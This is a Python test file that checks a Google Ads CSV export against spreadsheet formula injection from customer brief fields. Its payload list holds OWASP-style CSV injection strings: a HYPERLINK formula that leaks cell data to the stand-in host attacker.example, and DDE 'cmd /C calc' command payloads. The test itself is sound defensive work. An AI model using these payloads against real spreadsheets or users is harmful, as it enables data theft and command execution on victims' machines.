"""Issue 14, "spreadsheet formula injection": no cell of the Google Ads Editor CSV starts a
formula, whatever the customer typed into any brief field, and the campaign stays importable."""

from __future__ import annotations

import csv
import io

import pytest

from agents.ads import HEADLINE_MAX, campaign_csv, validate_campaign
from tests.support.briefs import load_briefs
from tests.unit.agents.test_ads import campaign_for

# What OWASP's "CSV Injection" page lists, and what the issue saw written verbatim.
PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
]
STARTS_A_FORMULA = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
FIELDS = ["business_name", "sector", "city", "description", "pages"]
BASE = load_briefs()[0]


def _brief_with(field: str, payload: str) -> dict:
    brief = dict(BASE)
    if field == "pages":
        brief["pages"] = [*BASE.get("pages", ["Accueil"])[:2], payload]
    elif field == "description":
        brief["description"] = f"{payload}. {BASE.get('description', '')} {payload}"
    else:
        brief[field] = payload + " " + (BASE.get(field) or "")
    return brief


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_no_csv_cell_starts_a_formula_whatever_the_brief_says(field: str, payload: str) -> None:
    campaign = campaign_for(_brief_with(field, payload))
    text = campaign_csv(campaign)
    rows = list(csv.reader(io.StringIO(text)))

    cells = [cell for row in rows for cell in row if cell]
    assert not [cell for cell in cells if cell.startswith(STARTS_A_FORMULA)], field
    # Still what Google Ads Editor imports: every limit holds, and the header row is intact.
    assert validate_campaign(campaign) == []
    assert all(len(h) <= HEADLINE_MAX for g in campaign["ad_groups"] for a in g["ads"] for h in a["headlines"])
    assert rows[0][0] == "Campaign" and all(len(row) == len(rows[0]) for row in rows)


def test_a_formula_in_the_business_name_is_written_as_text_with_a_leading_quote() -> None:
    campaign = campaign_for({**BASE, "business_name": "=cmd|' /C calc'!A0"})

    rows = list(csv.DictReader(io.StringIO(campaign_csv(campaign))))

    assert rows[0]["Campaign"].startswith("'=cmd|"), rows[0]["Campaign"]
